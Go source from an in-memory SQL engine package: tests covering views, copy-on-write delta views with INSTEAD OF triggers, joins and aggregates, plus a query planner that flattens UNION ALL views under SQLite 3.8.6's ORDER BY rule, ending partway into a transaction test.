	rows = mustQuery(t, db, "SELECT _id FROM t WHERE a LIKE 'RO%'")
	if len(rows.Data) != 10 {
		t.Errorf("LIKE: got %d rows, want 10", len(rows.Data))
	}
}

func TestUpdateDelete(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "INSERT INTO t (v) VALUES (1), (2), (3)")
	res := mustExec(t, db, "UPDATE t SET v = v * 10 WHERE v >= 2")
	if res.RowsAffected != 2 {
		t.Errorf("update affected %d, want 2", res.RowsAffected)
	}
	rows := mustQuery(t, db, "SELECT v FROM t ORDER BY v")
	if rows.Data[0][0] != int64(1) || rows.Data[1][0] != int64(20) || rows.Data[2][0] != int64(30) {
		t.Errorf("after update: %v", rows.Data)
	}
	res = mustExec(t, db, "DELETE FROM t WHERE v = 20")
	if res.RowsAffected != 1 {
		t.Errorf("delete affected %d, want 1", res.RowsAffected)
	}
	rows = mustQuery(t, db, "SELECT COUNT(*) FROM t")
	if rows.Data[0][0] != int64(2) {
		t.Errorf("count after delete = %v", rows.Data[0][0])
	}
}

func TestInsertOrReplace(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v TEXT)")
	mustExec(t, db, "INSERT INTO t (_id, v) VALUES (5, 'first')")
	if _, err := db.Exec("INSERT INTO t (_id, v) VALUES (5, 'dup')"); err == nil {
		t.Error("duplicate pk insert should fail")
	}
	mustExec(t, db, "INSERT OR REPLACE INTO t (_id, v) VALUES (5, 'second')")
	rows := mustQuery(t, db, "SELECT v FROM t WHERE _id = 5")
	if len(rows.Data) != 1 || rows.Data[0][0] != "second" {
		t.Errorf("after replace: %v", rows.Data)
	}
	// Auto-increment continues above explicit keys.
	res := mustExec(t, db, "INSERT INTO t (v) VALUES ('auto')")
	if res.LastInsertID != 6 {
		t.Errorf("auto id = %d, want 6", res.LastInsertID)
	}
}

func TestNotNullAndDefault(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, a TEXT NOT NULL, b INTEGER DEFAULT 42)")
	if _, err := db.Exec("INSERT INTO t (b) VALUES (1)"); err == nil {
		t.Error("NOT NULL violation should fail")
	}
	mustExec(t, db, "INSERT INTO t (a) VALUES ('x')")
	rows := mustQuery(t, db, "SELECT b FROM t")
	if rows.Data[0][0] != int64(42) {
		t.Errorf("default = %v, want 42", rows.Data[0][0])
	}
}

func TestSimpleView(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE files (_id INTEGER PRIMARY KEY, media_type INTEGER, title TEXT)")
	mustExec(t, db, "INSERT INTO files (media_type, title) VALUES (1, 'img1'), (2, 'aud1'), (1, 'img2')")
	mustExec(t, db, "CREATE VIEW images AS SELECT _id, title FROM files WHERE media_type = 1")
	rows := mustQuery(t, db, "SELECT title FROM images ORDER BY title")
	if len(rows.Data) != 2 || rows.Data[0][0] != "img1" || rows.Data[1][0] != "img2" {
		t.Errorf("view rows: %v", rows.Data)
	}
	// Views are read-only without triggers.
	if _, err := db.Exec("INSERT INTO images (title) VALUES ('x')"); err == nil {
		t.Error("insert into trigger-less view should fail")
	}
}

func TestViewOnView(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE files (_id INTEGER PRIMARY KEY, media_type INTEGER, title TEXT, duration INTEGER)")
	mustExec(t, db, "INSERT INTO files (media_type, title, duration) VALUES (2, 'song-a', 100), (2, 'song-b', 300), (1, 'pic', 0)")
	mustExec(t, db, "CREATE VIEW audio_meta AS SELECT _id, title, duration FROM files WHERE media_type = 2")
	mustExec(t, db, "CREATE VIEW long_audio AS SELECT _id, title FROM audio_meta WHERE duration > 200")
	rows := mustQuery(t, db, "SELECT title FROM long_audio")
	if len(rows.Data) != 1 || rows.Data[0][0] != "song-b" {
		t.Errorf("nested view: %v", rows.Data)
	}
}

// TestCOWViewFigure6 reproduces the exact delta-table/COW-view structure
// from Figure 6 of the paper and checks the merged result.
func TestCOWViewFigure6(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE tab1 (_id INTEGER PRIMARY KEY, data TEXT)")
	mustExec(t, db, "INSERT INTO tab1 (_id, data) VALUES (1, 'a'), (2, 'b'), (3, 'c')")
	mustExec(t, db, "CREATE TABLE tab1_delta_A (_id INTEGER PRIMARY KEY, data TEXT, _whiteout BOOLEAN)")
	mustExec(t, db, "INSERT INTO tab1_delta_A (_id, data, _whiteout) VALUES (2, 'b', 1), (3, 'd', 0), (10000001, 'e', 0)")
	mustExec(t, db, `CREATE VIEW tab1_view_A AS
		SELECT _id, data FROM tab1 WHERE _id NOT IN (SELECT _id FROM tab1_delta_A)
		UNION ALL
		SELECT _id, data FROM tab1_delta_A WHERE _whiteout = 0`)

	rows := mustQuery(t, db, "SELECT _id, data FROM tab1_view_A ORDER BY _id")
	want := [][]Value{{int64(1), "a"}, {int64(3), "d"}, {int64(10000001), "e"}}
	if len(rows.Data) != len(want) {
		t.Fatalf("COW view rows = %v, want %v", rows.Data, want)
	}
	for i := range want {
		if rows.Data[i][0] != want[i][0] || rows.Data[i][1] != want[i][1] {
			t.Errorf("row %d = %v, want %v", i, rows.Data[i], want[i])
		}
	}
}

// TestInsteadOfTriggers checks the paper's INSTEAD OF UPDATE trigger
// pattern: updates to the COW view are redirected into the delta table.
func TestInsteadOfTriggers(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE tab1 (_id INTEGER PRIMARY KEY, data TEXT)")
	mustExec(t, db, "INSERT INTO tab1 (_id, data) VALUES (1, 'a'), (2, 'b')")
	mustExec(t, db, "CREATE TABLE tab1_delta_A (_id INTEGER PRIMARY KEY, data TEXT, _whiteout BOOLEAN DEFAULT 0)")
	mustExec(t, db, `CREATE VIEW tab1_view_A AS
		SELECT _id, data FROM tab1 WHERE _id NOT IN (SELECT _id FROM tab1_delta_A)
		UNION ALL
		SELECT _id, data FROM tab1_delta_A WHERE _whiteout = 0`)
	mustExec(t, db, `CREATE TRIGGER tab1_A_update INSTEAD OF UPDATE ON tab1_view_A BEGIN
		INSERT OR REPLACE INTO tab1_delta_A (_id, data, _whiteout) VALUES (new._id, new.data, 0);
	END`)
	mustExec(t, db, `CREATE TRIGGER tab1_A_delete INSTEAD OF DELETE ON tab1_view_A BEGIN
		INSERT OR REPLACE INTO tab1_delta_A (_id, data, _whiteout) VALUES (old._id, old.data, 1);
	END`)

	// Update through the view: primary table untouched, delta updated.
	mustExec(t, db, "UPDATE tab1_view_A SET data = 'B' WHERE _id = 2")
	prim := mustQuery(t, db, "SELECT data FROM tab1 WHERE _id = 2")
	if prim.Data[0][0] != "b" {
		t.Errorf("primary table mutated: %v", prim.Data)
	}
	view := mustQuery(t, db, "SELECT data FROM tab1_view_A WHERE _id = 2")
	if len(view.Data) != 1 || view.Data[0][0] != "B" {
		t.Errorf("view after update: %v", view.Data)
	}

	// Delete through the view: whiteout row created.
	mustExec(t, db, "DELETE FROM tab1_view_A WHERE _id = 1")
	view = mustQuery(t, db, "SELECT _id FROM tab1_view_A ORDER BY _id")
	if len(view.Data) != 1 || view.Data[0][0] != int64(2) {
		t.Errorf("view after delete: %v", view.Data)
	}
	wh := mustQuery(t, db, "SELECT _whiteout FROM tab1_delta_A WHERE _id = 1")
	if len(wh.Data) != 1 || wh.Data[0][0] != int64(1) {
		t.Errorf("whiteout row: %v", wh.Data)
	}
	prim = mustQuery(t, db, "SELECT COUNT(*) FROM tab1")
	if prim.Data[0][0] != int64(2) {
		t.Errorf("primary table row count changed: %v", prim.Data)
	}
}

func TestInsteadOfInsertTrigger(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE base (_id INTEGER PRIMARY KEY, v TEXT)")
	mustExec(t, db, "CREATE TABLE delta (_id INTEGER PRIMARY KEY, v TEXT)")
	mustExec(t, db, "CREATE VIEW merged AS SELECT _id, v FROM base UNION ALL SELECT _id, v FROM delta")
	mustExec(t, db, `CREATE TRIGGER ins INSTEAD OF INSERT ON merged BEGIN
		INSERT INTO delta (_id, v) VALUES (new._id, new.v);
	END`)
	mustExec(t, db, "INSERT INTO merged (_id, v) VALUES (7, 'x')")
	rows := mustQuery(t, db, "SELECT v FROM delta WHERE _id = 7")
	if len(rows.Data) != 1 || rows.Data[0][0] != "x" {
		t.Errorf("trigger insert: %v", rows.Data)
	}
	if n, _ := db.QueryScalar("SELECT COUNT(*) FROM base"); n != int64(0) {
		t.Errorf("base table written: %v", n)
	}
}

func TestSubqueryFlattening(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE a (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "CREATE TABLE b (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "INSERT INTO a (v) VALUES (1), (2)")
	mustExec(t, db, "INSERT INTO b (v) VALUES (3), (4)")
	mustExec(t, db, "CREATE VIEW u AS SELECT _id, v FROM a UNION ALL SELECT _id, v FROM b")

	before := db.Stats()
	rows := mustQuery(t, db, "SELECT v FROM u WHERE v > 1")
	after := db.Stats()
	if len(rows.Data) != 3 {
		t.Errorf("rows = %v", rows.Data)
	}
	if after.FlattenedQueries != before.FlattenedQueries+1 {
		t.Errorf("flattened = %d -> %d, want +1", before.FlattenedQueries, after.FlattenedQueries)
	}
	if after.MaterializedViews != before.MaterializedViews {
		t.Errorf("materialized changed: %d -> %d", before.MaterializedViews, after.MaterializedViews)
	}
}

// TestFlatteningOrderByRestriction reproduces footnote 5: a query with
// ORDER BY on a column not in the select list cannot be flattened and
// falls back to materializing the view, while adding the ORDER BY column
// to the query columns (the proxy's workaround) restores flattening.
func TestFlatteningOrderByRestriction(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE a (_id INTEGER PRIMARY KEY, v INTEGER, w TEXT)")
	mustExec(t, db, "CREATE TABLE b (_id INTEGER PRIMARY KEY, v INTEGER, w TEXT)")
	mustExec(t, db, "INSERT INTO a (v, w) VALUES (2, 'x'), (1, 'y')")
	mustExec(t, db, "INSERT INTO b (v, w) VALUES (3, 'z')")
	mustExec(t, db, "CREATE VIEW u AS SELECT _id, v, w FROM a UNION ALL SELECT _id, v, w FROM b")

	// ORDER BY column not selected: must materialize.
	before := db.Stats()
	rows := mustQuery(t, db, "SELECT w FROM u ORDER BY v")
	after := db.Stats()
	if after.FlattenedQueries != before.FlattenedQueries {
		t.Error("query with non-selected ORDER BY column was flattened")
	}
	if after.MaterializedViews == before.MaterializedViews {
		t.Error("expected view materialization")
	}
	if len(rows.Data) != 3 || rows.Data[0][0] != "y" || rows.Data[1][0] != "x" || rows.Data[2][0] != "z" {
		t.Errorf("materialized path rows: %v", rows.Data)
	}

	// Proxy workaround: include the ORDER BY column in the select list.
	before = db.Stats()
	rows = mustQuery(t, db, "SELECT w, v FROM u ORDER BY v")
	after = db.Stats()
	if after.FlattenedQueries != before.FlattenedQueries+1 {
		t.Error("workaround query was not flattened")
	}
	if len(rows.Data) != 3 || rows.Data[0][0] != "y" {
		t.Errorf("workaround rows: %v", rows.Data)
	}

	// SELECT * with ORDER BY is always flattenable.
	before = db.Stats()
	mustQuery(t, db, "SELECT * FROM u ORDER BY v")
	after = db.Stats()
	if after.FlattenedQueries != before.FlattenedQueries+1 {
		t.Error("SELECT * with ORDER BY was not flattened")
	}
}

func TestJoins(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE artists (artist_id INTEGER PRIMARY KEY, artist TEXT)")
	mustExec(t, db, "CREATE TABLE songs (_id INTEGER PRIMARY KEY, title TEXT, artist_id INTEGER)")
	mustExec(t, db, "INSERT INTO artists (artist_id, artist) VALUES (1, 'Ann'), (2, 'Bob')")
	mustExec(t, db, "INSERT INTO songs (title, artist_id) VALUES ('s1', 1), ('s2', 2), ('s3', NULL)")

	rows := mustQuery(t, db, "SELECT title, artist FROM songs JOIN artists ON songs.artist_id = artists.artist_id ORDER BY title")
	if len(rows.Data) != 2 {
		t.Fatalf("inner join rows: %v", rows.Data)
	}
	if rows.Data[0][1] != "Ann" || rows.Data[1][1] != "Bob" {
		t.Errorf("inner join: %v", rows.Data)
	}

	rows = mustQuery(t, db, "SELECT title, artist FROM songs LEFT OUTER JOIN artists ON songs.artist_id = artists.artist_id ORDER BY title")
	if len(rows.Data) != 3 {
		t.Fatalf("left join rows: %v", rows.Data)
	}
	if rows.Data[2][0] != "s3" || rows.Data[2][1] != nil {
		t.Errorf("left join null row: %v", rows.Data[2])
	}
}

func TestAggregates(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, grp TEXT, v INTEGER)")
	mustExec(t, db, "INSERT INTO t (grp, v) VALUES ('a', 1), ('a', 2), ('b', 10), ('b', NULL)")

	rows := mustQuery(t, db, "SELECT COUNT(*), MAX(v), MIN(v), SUM(v) FROM t")
	r := rows.Data[0]
	if r[0] != int64(4) || r[1] != int64(10) || r[2] != int64(1) || r[3] != int64(13) {
		t.Errorf("aggregates: %v", r)
	}
	rows = mustQuery(t, db, "SELECT COUNT(v) FROM t")
	if rows.Data[0][0] != int64(3) {
		t.Errorf("COUNT(v) skips NULL: %v", rows.Data[0][0])
	}
	rows = mustQuery(t, db, "SELECT grp, SUM(v) AS total FROM t GROUP BY grp ORDER BY grp")
	if len(rows.Data) != 2 || rows.Data[0][1] != int64(3) || rows.Data[1][1] != int64(10) {
		t.Errorf("group by: %v", rows.Data)
	}
	// Aggregate over empty table.
	mustExec(t, db, "DELETE FROM t")
	rows = mustQuery(t, db, "SELECT COUNT(*), MAX(v) FROM t")
	if rows.Data[0][0] != int64(0) || rows.Data[0][1] != nil {
		t.Errorf("empty aggregates: %v", rows.Data[0])
	}
}

func TestScalarSubqueryAndExists(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "INSERT INTO t (v) VALUES (1), (5), (3)")
	v, err := db.QueryScalar("SELECT (SELECT MAX(v) FROM t)")
	if err != nil || v != int64(5) {
		t.Errorf("scalar subquery = %v, %v", v, err)
	}
	rows := mustQuery(t, db, "SELECT _id FROM t WHERE EXISTS (SELECT _id FROM t WHERE v = 5) ORDER BY _id")
	if len(rows.Data) != 3 {
		t.Errorf("EXISTS: %v", rows.Data)
	}
	rows = mustQuery(t, db, "SELECT _id FROM t WHERE v IN (SELECT v FROM t WHERE v > 2)")
	if len(rows.Data) != 2 {
		t.Errorf("IN subquery: %v", rows.Data)
	}
}

func TestNullSemantics(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "INSERT INTO t (v) VALUES (1), (NULL)")
	// NULL = NULL is NULL, so WHERE filters it out.
	rows := mustQuery(t, db, "SELECT _id FROM t WHERE v = NULL")
	if len(rows.Data) != 0 {
		t.Errorf("v = NULL matched: %v", rows.Data)
	}
	rows = mustQuery(t, db, "SELECT _id FROM t WHERE v IS NULL")
	if len(rows.Data) != 1 {
		t.Errorf("IS NULL: %v", rows.Data)
	}
	rows = mustQuery(t, db, "SELECT _id FROM t WHERE v IS NOT NULL")
	if len(rows.Data) != 1 {
		t.Errorf("IS NOT NULL: %v", rows.Data)
	}
	// COALESCE picks first non-null.
	v, _ := db.QueryScalar("SELECT COALESCE(NULL, NULL, 7)")
	if v != int64(7) {
		t.Errorf("COALESCE = %v", v)
	}
}

func TestExpressions(t *testing.T) {
	db := Open()
	cases := []struct {
		sql  string
		want Value
	}{
		{"SELECT 1 + 2 * 3", int64(7)},
		{"SELECT (1 + 2) * 3", int64(9)},
		{"SELECT 7 / 2", int64(3)},
		{"SELECT 7.0 / 2", 3.5},
		{"SELECT 7 % 3", int64(1)},
		{"SELECT -5", int64(-5)},
		{"SELECT 'a' || 'b' || 'c'", "abc"},
		{"SELECT LENGTH('hello')", int64(5)},
		{"SELECT UPPER('abc')", "ABC"},
		{"SELECT LOWER('ABC')", "abc"},
		{"SELECT ABS(-3)", int64(3)},
		{"SELECT SUBSTR('hello', 2, 3)", "ell"},
		{"SELECT REPLACE('aXbXc', 'X', '-')", "a-b-c"},
		{"SELECT CASE WHEN 1 > 0 THEN 'yes' ELSE 'no' END", "yes"},
		{"SELECT CASE 2 WHEN 1 THEN 'one' WHEN 2 THEN 'two' END", "two"},
		{"SELECT CAST('12' AS INTEGER)", int64(12)},
		{"SELECT CAST(12 AS TEXT)", "12"},
		{"SELECT 1 = 1 AND 2 = 2", int64(1)},
		{"SELECT NOT 0", int64(1)},
		{"SELECT 1 / 0", nil}, // SQLite yields NULL
		{"SELECT MAX(3, 7)", int64(7)},
	}
	for _, tc := range cases {
		got, err := db.QueryScalar(tc.sql)
		if err != nil {
			t.Errorf("%s: %v", tc.sql, err)
			continue
		}
		if got != tc.want {
			t.Errorf("%s = %v (%T), want %v", tc.sql, got, got, tc.want)
		}
	}
}

func TestLimitOffset(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY)")
	for i := 0; i < 10; i++ {
		mustExec(t, db, "INSERT INTO t (_id) VALUES (?)", i+1)
	}
	rows := mustQuery(t, db, "SELECT _id FROM t ORDER BY _id LIMIT 3")
	if len(rows.Data) != 3 || rows.Data[0][0] != int64(1) {
		t.Errorf("LIMIT: %v", rows.Data)
	}
	rows = mustQuery(t, db, "SELECT _id FROM t ORDER BY _id LIMIT 3 OFFSET 8")
	if len(rows.Data) != 2 || rows.Data[0][0] != int64(9) {
		t.Errorf("LIMIT OFFSET: %v", rows.Data)
	}
}

func TestOrderByMultipleKeysAndDesc(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, a INTEGER, b TEXT)")
	mustExec(t, db, "INSERT INTO t (a, b) VALUES (1, 'z'), (1, 'a'), (2, 'm')")
	rows := mustQuery(t, db, "SELECT a, b FROM t ORDER BY a DESC, b ASC")
	if rows.Data[0][0] != int64(2) || rows.Data[1][1] != "a" || rows.Data[2][1] != "z" {
		t.Errorf("multi-key order: %v", rows.Data)
	}
	// ORDER BY output index.
	rows = mustQuery(t, db, "SELECT b FROM t ORDER BY 1")
	if rows.Data[0][0] != "a" {
		t.Errorf("ORDER BY 1: %v", rows.Data)
	}
}

func TestDropStatements(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY)")
	mustExec(t, db, "CREATE VIEW v AS SELECT _id FROM t")
	mustExec(t, db, "CREATE TABLE d (_id INTEGER PRIMARY KEY)")
	mustExec(t, db, "CREATE TRIGGER tr INSTEAD OF INSERT ON v BEGIN INSERT INTO d (_id) VALUES (new._id); END")

	mustExec(t, db, "DROP TRIGGER tr")
	if _, err := db.Exec("INSERT INTO v (_id) VALUES (1)"); err == nil {
		t.Error("trigger still firing after drop")
	}
	mustExec(t, db, "DROP VIEW v")
	if _, err := db.Query("SELECT * FROM v"); err == nil {
		t.Error("view still queryable after drop")
	}
	mustExec(t, db, "DROP TABLE t")
	if db.HasTable("t") {
		t.Error("table still present after drop")
	}
	// IF EXISTS variants are idempotent.
	mustExec(t, db, "DROP TABLE IF EXISTS t")
	mustExec(t, db, "DROP VIEW IF EXISTS v")
	mustExec(t, db, "DROP TRIGGER IF EXISTS tr")
}

func TestInsertFromSelect(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE src (_id INTEGER PRIMARY KEY, v TEXT)")
	mustExec(t, db, "CREATE TABLE dst (_id INTEGER PRIMARY KEY, v TEXT)")
	mustExec(t, db, "INSERT INTO src (v) VALUES ('a'), ('b')")
	mustExec(t, db, "INSERT INTO dst (_id, v) SELECT _id, v FROM src")
	rows := mustQuery(t, db, "SELECT v FROM dst ORDER BY _id")
	if len(rows.Data) != 2 || rows.Data[0][0] != "a" {
		t.Errorf("insert-select: %v", rows.Data)
	}
}

func TestMultiStatementExec(t *testing.T) {
	db := Open()
	mustExec(t, db, `
		CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER);
		INSERT INTO t (v) VALUES (1);
		INSERT INTO t (v) VALUES (2);
	`)
	n, _ := db.QueryScalar("SELECT COUNT(*) FROM t")
	if n != int64(2) {
		t.Errorf("multi-statement: count = %v", n)
	}
}

func TestParseErrors(t *testing.T) {
	db := Open()
	bad := []string{
		"SELEC 1",
		"SELECT FROM",
		"CREATE TABLE",
		"INSERT INTO t VALUES",
		"SELECT 'unterminated",
		"SELECT * FROM t WHERE",
		"UPDATE t",
	}
	for _, sql := range bad {
		if _, err := db.Exec(sql); err == nil {
			t.Errorf("expected parse error for %q", sql)
		}
	}
}

func TestErrorsForMissingObjects(t *testing.T) {
	db := Open()
	if _, err := db.Query("SELECT * FROM missing"); err == nil || !strings.Contains(err.Error(), "no such table") {
		t.Errorf("missing table: %v", err)
	}
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY)")
	if _, err := db.Query("SELECT bogus FROM t"); err == nil {
		t.Error("missing column should fail")
	}
	if _, err := db.Exec("INSERT INTO t (bogus) VALUES (1)"); err == nil {
		t.Error("insert into missing column should fail")
	}
}

func TestQualifiedColumnRefs(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "INSERT INTO t (v) VALUES (9)")
	rows := mustQuery(t, db, "SELECT t.v FROM t WHERE t._id = 1")
	if rows.Data[0][0] != int64(9) {
		t.Errorf("qualified ref: %v", rows.Data)
	}
	rows = mustQuery(t, db, "SELECT x.v FROM t AS x WHERE x._id = 1")
	if rows.Data[0][0] != int64(9) {
		t.Errorf("aliased ref: %v", rows.Data)
	}
}

func TestDistinct(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "INSERT INTO t (v) VALUES (1), (1), (2)")
	rows := mustQuery(t, db, "SELECT DISTINCT v FROM t ORDER BY v")
	if len(rows.Data) != 2 {
		t.Errorf("DISTINCT: %v", rows.Data)
	}
}

func TestConcurrentReaders(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER)")
	for i := 0; i < 100; i++ {
		mustExec(t, db, "INSERT INTO t (v) VALUES (?)", i)
	}
	done := make(chan error, 8)
	for g := 0; g < 8; g++ {
		go func() {
			for i := 0; i < 50; i++ {
				if _, err := db.Query("SELECT COUNT(*) FROM t WHERE v < 50"); err != nil {
					done <- err
					return
				}
			}
			done <- nil
		}()
	}
	for g := 0; g < 8; g++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
}
