package sqldb

import (
	"strings"
)

// plan applies the subquery-flattening optimization for queries over
// UNION ALL compound views, mirroring the SQLite query planner behavior
// the paper's COW proxy depends on (§5.2 and footnote 5):
//
//   - A simple SELECT over a UNION ALL view is rewritten into a compound
//     SELECT with the outer WHERE pushed into each arm, so the query
//     never materializes the whole view.
//   - As in SQLite 3.8.6, if the outer query has an ORDER BY clause,
//     flattening is only performed when the query selects "*" or the
//     ORDER BY columns are a subset of the selected columns. Otherwise
//     the view is materialized (the slow path the proxy works around by
//     adding ORDER BY columns to the query columns).
func (ex *executor) plan(sel *SelectStmt) *SelectStmt {
	db := ex.db
	db.planMu.Lock()
	cached, ok := db.planCache.get(sel)
	db.planMu.Unlock()
	if ok {
		db.statPlanHit.Add(1)
		if cached != sel {
			db.statFlattened.Add(1)
		}
		return cached
	}
	db.statPlanMiss.Add(1)
	planned := ex.planUncached(sel)
	db.planMu.Lock()
	db.planCache.put(sel, planned)
	db.planMu.Unlock()
	return planned
}

func (ex *executor) planUncached(sel *SelectStmt) *SelectStmt {
	if len(sel.Cores) != 1 {
		return sel
	}
	core := sel.Cores[0]
	if core.From == nil || core.From.Name == "" || core.From.Sub != nil {
		return sel
	}
	if len(core.Joins) > 0 || core.GroupBy != nil || core.Distinct || ex.hasAggregate(core.Cols) {
		return sel
	}
	v, ok := ex.db.views[strings.ToLower(core.From.Name)]
	if !ok || len(v.def.Cores) < 2 {
		return sel
	}
	if len(v.def.OrderBy) > 0 || v.def.Limit != nil {
		return sel
	}
	// All view arms must have explicit (non-star) projections matching
	// the view's column list; the COW proxy always generates these.
	for _, arm := range v.def.Cores {
		if len(arm.Cols) != len(v.cols) {
			return sel
		}
		for _, rc := range arm.Cols {
			if rc.Star || rc.TableStar != "" {
				return sel
			}
		}
		if arm.Distinct || arm.GroupBy != nil || ex.hasAggregate(arm.Cols) {
			return sel
		}
	}

	quals := viewQualifiers(core, v)

	// The 3.8.6 ORDER BY restriction.
	if len(sel.OrderBy) > 0 && !orderByFlattenable(sel, core, v, quals) {
		return sel
	}

	// Build output projection column names for the rewritten arms.
	outNames := outputNames(core, v)

	newSel := &SelectStmt{
		OrderBy: stripOrderQualifiers(sel.OrderBy, quals),
		Limit:   sel.Limit,
		Offset:  sel.Offset,
	}
	for _, arm := range v.def.Cores {
		subst := make(map[string]Expr, len(v.cols))
		for i, name := range v.cols {
			subst[strings.ToLower(name)] = arm.Cols[i].Expr
		}
		newCore := &SelectCore{
			From:  arm.From,
			Joins: arm.Joins,
		}
		// Push the outer WHERE into the arm, AND-ed with the arm's own.
		where := arm.Where
		if core.Where != nil {
			pushed := substExpr(core.Where, quals, subst)
			if where == nil {
				where = pushed
			} else {
				where = &Binary{Op: "AND", L: where, R: pushed}
			}
		}
		newCore.Where = where
		// Outer projection, rewritten in terms of the arm's expressions.
		if isStarOnly(core.Cols) {
			for i, name := range v.cols {
				newCore.Cols = append(newCore.Cols, ResultCol{Expr: arm.Cols[i].Expr, Alias: name})
			}
		} else {
			for ci, rc := range core.Cols {
				newCore.Cols = append(newCore.Cols, ResultCol{
					Expr:  substExpr(rc.Expr, quals, subst),
					Alias: outNames[ci],
				})
			}
		}
		newSel.Cores = append(newSel.Cores, newCore)
	}
	ex.db.statFlattened.Add(1)
	return newSel
}

// viewQualifiers returns the qualifiers that refer to the view in the
// outer query (its name and alias).
func viewQualifiers(core *SelectCore, v *view) []string {
	quals := []string{strings.ToLower(v.name)}
	if core.From.Alias != "" {
		quals = append(quals, strings.ToLower(core.From.Alias))
	}
	return quals
}

func isStarOnly(cols []ResultCol) bool {
	return len(cols) == 1 && cols[0].Star
}

// outputNames computes the output column names of the outer query.
func outputNames(core *SelectCore, v *view) []string {
	if isStarOnly(core.Cols) {
		return v.cols
	}
	names := make([]string, len(core.Cols))
	for i, rc := range core.Cols {
		names[i] = exprName(rc)
	}
	return names
}

// orderByFlattenable implements the SQLite 3.8.6 rule: with an ORDER BY
// present, flattening requires SELECT * or that every ORDER BY term is a
// plain column reference contained in the selected columns (or a 1-based
// output column index).
func orderByFlattenable(sel *SelectStmt, core *SelectCore, v *view, quals []string) bool {
	if isStarOnly(core.Cols) {
		return true
	}
	outNames := outputNames(core, v)
	for _, term := range sel.OrderBy {
		switch t := term.Expr.(type) {
		case *Lit:
			if n, ok := t.Val.(int64); ok && n >= 1 && int(n) <= len(outNames) {
				continue
			}
			return false
		case *ColRef:
			if t.Table != "" && !containsFold(quals, t.Table) {
				return false
			}
			if indexOfFold(outNames, t.Col) < 0 {
				return false
			}
		default:
			return false
		}
	}
	return true
}

func containsFold(list []string, s string) bool {
	for _, x := range list {
		if strings.EqualFold(x, s) {
			return true
		}
	}
	return false
}

// stripOrderQualifiers removes view qualifiers from ORDER BY column
// references so they resolve against the compound output columns.
func stripOrderQualifiers(terms []OrderTerm, quals []string) []OrderTerm {
	out := make([]OrderTerm, len(terms))
	for i, t := range terms {
		out[i] = t
		if ref, ok := t.Expr.(*ColRef); ok && ref.Table != "" && containsFold(quals, ref.Table) {
			out[i].Expr = &ColRef{Col: ref.Col}
		}
	}
	return out
}

// substExpr rewrites references to the view's columns using subst,
// leaving everything else shared (expressions are immutable once parsed).
func substExpr(e Expr, quals []string, subst map[string]Expr) Expr {
	switch x := e.(type) {
	case nil:
		return nil
	case *Lit, *Param:
		return e
	case *ColRef:
		if x.Table == "" || containsFold(quals, x.Table) {
			if repl, ok := subst[strings.ToLower(x.Col)]; ok {
				return repl
			}
		}
		return x
	case *Unary:
		return &Unary{Op: x.Op, X: substExpr(x.X, quals, subst)}
	case *Binary:
		return &Binary{Op: x.Op, L: substExpr(x.L, quals, subst), R: substExpr(x.R, quals, subst)}
	case *InExpr:
		out := &InExpr{X: substExpr(x.X, quals, subst), Not: x.Not, Sub: x.Sub}
		for _, le := range x.List {
			out.List = append(out.List, substExpr(le, quals, subst))
		}
		return out
	case *IsNull:
		return &IsNull{X: substExpr(x.X, quals, subst), Not: x.Not}
	case *Between:
		return &Between{
			X:   substExpr(x.X, quals, subst),
			Not: x.Not,
			Lo:  substExpr(x.Lo, quals, subst),
			Hi:  substExpr(x.Hi, quals, subst),
		}
	case *Call:
		out := &Call{Name: x.Name, Star: x.Star}
		for _, a := range x.Args {
			out.Args = append(out.Args, substExpr(a, quals, subst))
		}
		return out
	case *CaseExpr:
		out := &CaseExpr{Operand: substExpr(x.Operand, quals, subst), Else: substExpr(x.Else, quals, subst)}
		for _, w := range x.Whens {
			out.Whens = append(out.Whens, struct{ Cond, Result Expr }{
				substExpr(w.Cond, quals, subst),
				substExpr(w.Result, quals, subst),
			})
		}
		return out
	}
	return e
}
