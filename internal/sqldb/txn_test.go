package sqldb

import (
	"strings"
	"testing"
)

func TestTransactionCommit(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "BEGIN")
	mustExec(t, db, "INSERT INTO t (v) VALUES (1), (2)")
